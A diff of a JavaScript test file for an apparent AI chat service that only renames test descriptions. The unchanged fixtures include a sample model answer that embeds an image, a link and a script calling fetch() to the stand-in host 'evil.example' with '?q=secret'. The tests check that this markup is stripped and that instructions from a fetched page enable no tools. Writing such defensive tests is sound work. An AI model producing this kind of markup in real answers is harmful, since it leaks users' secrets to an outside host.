@@ -157,7 +157,7 @@ it('instructions in a page stay quoted in the prompt, enable no tools and do not
   for (const secret of [key, 'quoted material']) expect(raw).not.toContain(secret);
 });
 
-describe('links, images and HTML that a model makes up', () => {
+describe('unsafe markup', () => {
   const evil = 'https://evil.example/p.png?q=secret';
   const source = 'https://book.example/docs/nodes';
   const written = `Nodes ![x](${evil}) publish [1] <script>fetch("${evil}")</script>[here](${evil}), see [it](${source}).`;
@@ -174,7 +174,7 @@ describe('links, images and HTML that a model makes up', () => {
       { markup: 'raw' },
       written,
     ],
-  ])('%s', async (_, asked, text) => {
+  ])('links, images and HTML that a model makes up %s', async (_, asked, text) => {
     quire.providers.chat.byDefault(answer(written, { tokenMs: 1 }));
     const markup_removed = text === safe ? { links: 2, images: 1, html: 2 } : undefined;
     const { shown, raw, response } = await quire.streamOf({ message: QUESTION, ...asked });
@@ -264,7 +264,7 @@ it('over ten turns the model is sent the last five exchanges in order, the quest
   }
 });
 
-it('serves the metrics of each process, labelled with its service', async () => {
+it('each process serves its metrics, labelled with its service', async () => {
   for (const service of quire.processes) {
     const response = await fetch(metricsUrl(service));
     expect(await response.text()).toContain(`service="${service.name}"`);
